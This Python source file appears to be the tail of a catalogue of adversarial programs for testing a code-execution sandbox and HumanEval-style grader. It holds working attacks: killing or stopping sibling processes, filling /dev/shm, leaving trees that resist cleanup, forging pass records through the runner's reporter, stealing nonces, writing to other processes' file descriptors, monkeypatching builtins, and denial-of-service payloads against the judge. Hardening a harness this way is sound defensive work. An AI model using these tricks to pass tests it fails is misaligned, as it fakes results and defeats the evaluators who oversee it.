            "import os, ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\ndef f():\n    seen = []\n"
            "    for d in ('/dev', '/dev/shm', '/dev/mqueue'):\n        if os.path.exists(d + '/planted-@MARKER@'):\n"
            "            seen.append(d)\n    try:\n"
            "        if libc.mq_open(b'/planted-@MARKER@', 0) >= 0:\n            seen.append('mq')\n"
            "    except Exception:\n        pass\n    if libc.syscall(68, 0x4242, 0) >= 0:\n        seen.append('sysv')\n"
            "    try:\n        if os.getxattr('..', 'user.planted'):\n            seen.append('xattr')\n"
            "    except OSError:\n        pass\n    if int(os.stat('..').st_mtime) == 4242:\n        seen.append('mtime')\n"
            "    try:\n        open('../probe', 'w').write('x')\n    except OSError:\n        seen.append('tmp not writable')\n"
            "    return seen\n",
            ("assert f() == []",),
        ),
    ),
    Attack(
        "fill_dev",
        "pool",
        "fill /dev and /dev/shm (outside the work dir's size limit) for the next program",
        "def f():\n    n = 0\n    for d in ('/dev', '/dev/shm'):\n        k = 0\n        try:\n"
        "            while n < (400 << 20):\n                k += 1\n"
        "                with open('%s/fill-@MARKER@-%d' % (d, k), 'wb') as fh:\n"
        "                    for _ in range(8):\n                        fh.write(b'x' * (1 << 20))\n"
        "                        n += 1 << 20\n        except OSError:\n            pass\n    return n\n",
        ("assert f() >= 400 << 20",),
        followup=("def f():\n    x = bytearray(150 << 20)\n    return len(x)\n", ("assert f() == 150 << 20",)),
    ),
    Attack(
        "tamper_fork_server",
        "pool",
        "lower the limits and priority of, pin and stop every other process of the sandbox (the fork server)",
        "import os, ctypes, signal\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "class RL(ctypes.Structure):\n    _fields_ = [('cur', ctypes.c_ulong), ('max', ctypes.c_ulong)]\n"
        "me = os.getpid()\nfor p in os.listdir('/proc'):\n    if not p.isdigit() or int(p) == me:\n        continue\n"
        "    pid = int(p)\n    for res in (2, 3, 7):\n        libc.prlimit(pid, res, ctypes.byref(RL(1 << 24, 1 << 24)), None)\n"
        "    libc.setpriority(0, pid, 19)\n    libc.sched_setaffinity(pid, 8, ctypes.byref(ctypes.c_ulong(1)))\n"
        "    if pid != 1:\n        try:\n            os.kill(pid, signal.SIGSTOP)\n        except OSError:\n            pass\n"
        "libc.setpriority(2, 0, 19)\n",
        followup=(
            "def f(n):\n    return len(bytearray(n << 20)) + sum(range(n))\n",
            ("assert f(10) == 10485805", "assert f(60) == 62916330"),
        ),
    ),
    Attack(
        "sabotage_next_child",
        "pool",
        "a daemon stops or kills the child already waiting for the next job (ppid is not pid 1)",
        "import os, signal, time\nif os.fork() == 0:\n    os.setsid()\n    end = time.time() + 1.5\n    k = 0\n"
        "    while time.time() < end:\n        for p in os.listdir('/proc'):\n            if not p.isdigit() or int(p) == os.getpid():\n"
        "                continue\n            try:\n                st = open('/proc/%s/stat' % p).read()\n"
        "                if int(st[st.rfind(')') + 2:].split()[1]) not in (0, 1):\n"
        "                    os.kill(int(p), (signal.SIGSTOP, signal.SIGKILL)[k % 2])\n            except (OSError, ValueError):\n"
        "                pass\n        k += 1\n        time.sleep(0.01)\n    os._exit(0)\ndef f():\n    return 1\n",
        followup=("def f(x):\n    return x * 3\n", ("assert f(3) == 9",)),
    ),
    # ------------------------------------------------------------- cleanup failures must not reach the next job
    Attack(
        "wipe_path_too_long",
        "pool",
        "a directory chain longer than PATH_MAX in the work dir",
        "import os\nfor _ in range(24):\n    os.mkdir('d' * 250)\n    os.chdir('d' * 250)\n"
        "open('@MARKER@', 'w').write('x')\n",
        followup=("import os\ndef f():\n    return sorted(os.listdir('.'))\n", ("assert f() == []",)),
    ),
    Attack(
        "wipe_too_deep",
        "pool",
        "directories nested 3000 deep (deeper than a recursive wipe can go)",
        "import os\nfor _ in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\n",
        followup=("import os\ndef f():\n    return sorted(os.listdir('.'))\n", ("assert f() == []",)),
    ),
    Attack(
        "wipe_locked_dirs",
        "pool",
        "unreadable, unwritable directories, a read-only work dir and tmpfs root",
        "import os\nos.makedirs('a/b/c')\nopen('a/b/c/f', 'w').write('x')\nfor p in ('a/b/c', 'a/b', 'a'):\n"
        "    os.chmod(p, 0)\nos.chmod('.', 0o500)\nos.chmod('..', 0o500)\n",
        followup=(
            "import os\ndef f():\n    open('x', 'w').write('1')\n    open('../y', 'w').write('1')\n"
            "    return sorted(os.listdir('.'))\n",
            ("assert f() == ['x']",),
        ),
    ),
]
ATTACKS += POOL_STATE_ATTACKS

_FORGE_ALL = (
    "import gc, os\nfor o in gc.get_objects():\n    if callable(o) and getattr(o, '__name__', '') == 'report'"
    " and getattr(o, '__closure__', None):\n        o({'k': 'load'})\n        for i in range(@N@):\n"
    "            o({'k': 't', 'i': i, 'ok': 1})\n        o({'k': 'end'})\n        os._exit(0)\n"
)

TRUST_ATTACKS: list[Attack] = [
    Attack(
        "dead_code_builtin_bindings",
        "forgery",
        "bind builtins only in dead code so the planner runs the asserts inside, then forge them with the "
        "runner's reporter",
        "if 0:\n    tuple = sorted = set = None\n" + _FORGE_ALL.replace("@N@", "2") + "def f(x):\n    return None\n",
        ("assert f(1) == tuple([1, 2])", "assert f(2) == sorted([3, 1])"),
    ),
    Attack(
        "dead_code_check_names",
        "forgery",
        "HumanEval: bind the check's own data names in dead code so the whole check runs inside, then forge it",
        "if 0:\n    lst = expected = None\n" + _FORGE_ALL.replace("@N@", "1") + "def g(l):\n    return None\n",
        (
            "def check(candidate):\n    lst = [1, 2]\n    expected = [2, 1]\n    assert candidate(lst) == expected\n"
            "    assert candidate([3]) == [3]\n",
        ),
        entry_point="g",
    ),
    Attack(
        "lambda_parameter_collision",
        "forgery",
        "bind a global named like the test's lambda parameter so the assert runs inside, then forge it",
        "t = 0\n" + _FORGE_ALL.replace("@N@", "1") + "def f():\n    return [(9, 9)]\n",
        ("assert sorted(f(), key=lambda t: t[1]) == [(1, 0)]",),
    ),
]
ATTACKS += TRUST_ATTACKS


# ------------------------------------------------------- HumanEval checks that run as one unit
# A check with loops cannot be split into program values and a verdict; it runs in a trusted check process
# that calls into the program's process. Each program below is wrong (f returns None) and tries to make such
# a check pass anyway from inside its own process.
_HE_CHECK = "def check(candidate):\n    for x in range(3):\n        assert candidate(x) == x + 100\n"
_HE_STEAL = (
    "import gc, os, sys\n"
    "def _nonces():\n    found = set()\n    for o in gc.get_objects():\n"
    "        for c in (getattr(o, '__closure__', None) or ()) if callable(o) else ():\n            try:\n"
    "                v = c.cell_contents\n            except ValueError:\n                continue\n"
    "            if isinstance(v, str) and len(v) == 32:\n                found.add(v)\n"
    "        if isinstance(o, dict) and isinstance(o.get('nonce'), str):\n            found.add(o['nonce'])\n"
    "    return found\n"
    'def _records(n):\n    return \'\'.join(\'{"k":"%s",%s"n":"%s"}\\n\' % (k, x, n) for k, x in'
    " (('load', ''), ('t', '\"i\":0,\"ok\":1,'), ('end', ''))).encode()\n"
)

HUMANEVAL_CHECK_ATTACKS: list[Attack] = [
    Attack(
        "humaneval_check_gc_reporter",
        "forgery",
        "HumanEval check with a loop: find every reporter closure through gc (and the runner module's "
        "make_reporter) and report the check as passed on fd 3 and on the check channel's fd 4",
        _HE_STEAL + "for m in list(sys.modules.values()):\n    mk = getattr(m, 'make_reporter', None)\n"
        "    if callable(mk):\n        for n in _nonces():\n            try:\n                r = mk(n, 4)\n"
        "                r({'k': 't', 'i': 0, 'ok': 1})\n                r({'k': 'end'})\n"
        "            except Exception:\n"
        "                pass\n"
        "for o in gc.get_objects():\n"
        "    if callable(o) and getattr(o, '__name__', '') == 'report' and getattr(o, '__closure__', None):\n"
        "        for rec in ({'k': 'load'}, {'k': 't', 'i': 0, 'ok': 1}, {'k': 'end'}):\n            try:\n"
        "                o(dict(rec))\n            except Exception:\n                pass\n        os._exit(0)\n"
        "def f(x):\n    return None\n",
        (_HE_CHECK,),
        entry_point="f",
    ),
    Attack(
        "humaneval_check_frame_walk",
        "forgery",
        "HumanEval check with a loop: walk the stack (sys._getframe, a traceback's frames) from inside the "
        "function for the runner's reporter, the check's link and the nonce, and forge the check's records",
        "import os, sys\ndef _walk(frame):\n    while frame is not None:\n"
        "        for v in list(frame.f_locals.values()) + list(frame.f_globals.values()):\n"
        "            if callable(v) and getattr(v, '__name__', '') == 'report':\n"
        "                for rec in ({'k': 't', 'i': 0, 'ok': 1}, {'k': 'end'}):\n                    try:\n"
        "                        v(dict(rec))\n                    except Exception:\n                        pass\n"
        "                os._exit(0)\n"
        "        frame = frame.f_back\ndef f(x):\n    _walk(sys._getframe())\n    try:\n        raise ValueError\n"
        "    except ValueError as e:\n        _walk(e.__traceback__.tb_frame)\n    return None\n",
        (_HE_CHECK,),
        entry_point="f",
    ),
    Attack(
        "humaneval_check_fd_forgery",
        "forgery",
        "HumanEval check with a loop: write forged records with the stolen nonce to every descriptor it "
        "holds, and try to reach the check process's descriptors and memory (/proc/<pid>/fd, /proc/<pid>/mem, "
        "pidfd_getfd)",
        _HE_STEAL + "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\ndef _spray():\n"
        "    data = b''.join(_records(n) for n in _nonces())\n    targets = list(range(256))\n"
        "    for p in os.listdir('/proc'):\n        if not p.isdigit() or int(p) == os.getpid():\n"
        "            continue\n"
        "        for fd in range(3, 16):\n            try:\n"
        "                targets.append(os.open('/proc/%s/fd/%d' % (p, fd), os.O_WRONLY))\n"
        "            except OSError:\n"
        "                pass\n        try:\n            os.close(os.open('/proc/%s/mem' % p, os.O_RDWR))\n"
        "            print('ESCAPED: opened the memory of process', p)\n        except OSError:\n            pass\n"
        "        pidfd = libc.syscall(434, int(p), 0)\n        if pidfd >= 0:\n            for fd in range(3, 16):\n"
        "                got = libc.syscall(438, pidfd, fd, 0)\n                if got >= 0:\n"
        "                    targets.append(got)\n    for fd in targets:\n        if fd in (0, 1, 2):\n"
        "            continue\n"
        "        try:\n            os.write(fd, data)\n        except OSError:\n            pass\n"
        "_spray()\nos._exit(0)\ndef f(x):\n    return None\n",
        (_HE_CHECK,),
        entry_point="f",
    ),
    Attack(
        "humaneval_check_monkeypatch",
        "forgery",
        "HumanEval check with a loop: rebind range/len/AssertionError (module globals and builtins), define "
        "its own check() and candidate, and swap random and math in sys.modules",
        "import builtins, json, sys, types  # json first: the runner answers the check with it\n"
        "class Nope(BaseException):\n    pass\nbuiltins.range = lambda *a: []\nbuiltins.AssertionError = Nope\n"
        "builtins.all = lambda *a: True\n"
        "range = lambda *a: []\nAssertionError = Nope\nall = lambda *a: True\n"
        "for name in ('random', 'math'):\n    fake = types.ModuleType(name)\n    fake.randint = lambda *a: 0\n"
        "    fake.isclose = lambda *a, **k: True\n    sys.modules[name] = fake\n"
        "def check(candidate):\n    pass\ncandidate = lambda *a: None\ndef f(x):\n    return None\n",
        (
            "import random\nimport math\n\ndef check(candidate):\n    for x in range(3):\n"
            "        assert math.isclose(candidate(x), x + random.randint(100, 100))\n"
            "    assert all(candidate(x) == x + 100 for x in range(3))\n",
        ),
        entry_point="f",
    ),
    Attack(
        "humaneval_check_exit_before_asserts",
        "forgery",
        "HumanEval check with a loop: sys.exit(0) while loading, before the check runs",
        "import sys\ndef f(x):\n    return None\nsys.exit(0)\n",
        (_HE_CHECK,),
        entry_point="f",
        expect=("error",),
    ),
    Attack(
        "humaneval_check_exit_inside",
        "forgery",
        "HumanEval check with a loop: the function calls os._exit(0) (and raises SystemExit) while the check runs it",
        "import os\ndef f(x):\n    if x == 0:\n        raise SystemExit(0)\n    os._exit(0)\n",
        (_HE_CHECK,),
        entry_point="f",
    ),
    Attack(
        "humaneval_check_stop_iteration",
        "forgery",
        "HumanEval check with a loop: the function raises StopIteration so that map() inside the check ends "
        "early and all() over nothing passes",
        "def f(x):\n    raise StopIteration\n",
        ("def check(candidate):\n    for _ in range(1):\n        assert all(map(candidate, [1, 2, 3]))\n",),
        entry_point="f",
    ),
    Attack(
        "humaneval_check_kill_checker",
        "forgery",
        "HumanEval check with a loop: kill or stop every other process of the sandbox (the check process "
        "among them) and return wrong values",
        "import os, signal\nfor p in os.listdir('/proc'):\n    if p.isdigit() and int(p) not in (1, os.getpid()):\n"
        "        for sig in (signal.SIGINT, signal.SIGTERM):\n            try:\n"
        "                os.kill(int(p), sig)\n"
        "            except OSError:\n                pass\ndef f(x):\n    return None\n",
        (_HE_CHECK,),
        entry_point="f",
    ),
]
ATTACKS += HUMANEVAL_CHECK_ATTACKS


# --------------------------------------------- untrusted output must cost the harness bounded work, one row
JUDGE_ATTACKS: list[Attack] = [
    Attack(
        "nested_json_report",
        "judge",
        "a report line nested 100,000 deep (RecursionError in the harness)",
        "import os\nos.write(3, b'[' * 100000 + b'\\n')\nos.write(3, b'{\"k\": ' * 50000 + b'\\n')\n"
        "def f():\n    return 1\n",
        ("assert f() == 1",),
        max_s=10,
    ),
    Attack(
        "surrogate_error_text",
        "judge",
        "lone surrogates in test errors and raw invalid UTF-8 output (UTF-8 writers of records die on them)",
        "import os\nos.write(1, b'\\xed\\xb2\\x80 \\xff out')\nos.write(2, b'\\xed\\xa0\\x80 err')\n"
        "def f(k):\n    raise ValueError(['\\udfff', '\\ud800', '\\udc80\\udc80'][k])\n",
        ("assert f(0) == 1", "assert f(1) == 2", "assert f(2) == 3"),
        max_s=10,
    ),
    Attack(
        "surrogate_load_error",
        "judge",
        "a lone surrogate in the exception that stops the program loading",
        "raise ValueError('\\udc80' * 50)\n",
    ),
    Attack(
        "huge_decimal",
        "judge",
        "return Decimal('1e999999999'): int()/round() of it take minutes",
        "from decimal import Decimal\ndef f():\n    return Decimal('1e999999999')\n",
        ("assert int(f()) == 1", "assert round(f()) == 1", "assert f() == 1"),
        max_s=30,
    ),
    Attack(
        "hash_collision_set",
        "judge",
        "return a set (and a list the test turns into a set) of ints that all hash to 0",
        "def f():\n    return {k * (2 ** 61 - 1) for k in range(3000)}\n"
        "def g():\n    return [k * (2 ** 61 - 1) for k in range(8000)]\n",
        ("assert f() == {0}", "assert set(g()) == {0}", "assert dict.fromkeys(g()) == {}"),
        max_s=15,
    ),
    Attack(
        "quadratic_judge_call",
        "judge",
        "a value that makes a builtin in the verdict quadratic (sum of lists)",
        "def f():\n    return [[1]] * 20000\n",
        ("assert sum(f(), []) == [1]",),
        max_s=30,
    ),
    # exact transport: what the judge compares is what the program returned, or the row fails with a reason
    Attack(
        "surrogate_pair_forgery",
        "judge",
        "return two lone surrogates hoping they arrive as the one astral character the test expects",
        "def f():\n    return '\\ud83d\\ude00'\n",
        ("assert f() == '\\U0001F600'",),
    ),
    Attack(
        "subclass_members_collapse",
        "judge",
        "a set and dict whose int/str subclass members collapse into the expected value when sent as base values",
        "class I(int):\n    def __eq__(self, o):\n        return self is o\n    __hash__ = int.__hash__\n"
        "class S(str):\n    def __eq__(self, o):\n        return self is o\n    __hash__ = str.__hash__\n"
        "def f():\n    return {1, I(1), I(1)}\ndef g():\n    return {'a': 1, S('a'): 2}\n",
        ("assert f() == {1}", "assert g() == {'a': 2}"),
    ),
]
ATTACKS += JUDGE_ATTACKS


def by_name() -> dict[str, Attack]:
    return {a.name: a for a in ATTACKS}


def render(text: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        text = text.replace(f"@{key}@", value)
    return text


def rendered(attack: Attack, values: dict[str, str]) -> Attack:
    """The attack with every placeholder filled in (program, tests, setup, follow-up)."""
    follow = None
    if attack.followup is not None:
        follow = (render(attack.followup[0], values), tuple(render(t, values) for t in attack.followup[1]))
    return Attack(
        attack.name,
        attack.category,
        attack.description,
        render(attack.program, values),
        tuple(render(t, values) for t in attack.tests),
        render(attack.setup, values),
        attack.entry_point,
        attack.expect,
        attack.weak_on,
        attack.destructive,
        follow,
        attack.max_s,
    )


__all__ = ["ATTACKS", "Attack", "by_name", "render", "rendered"]
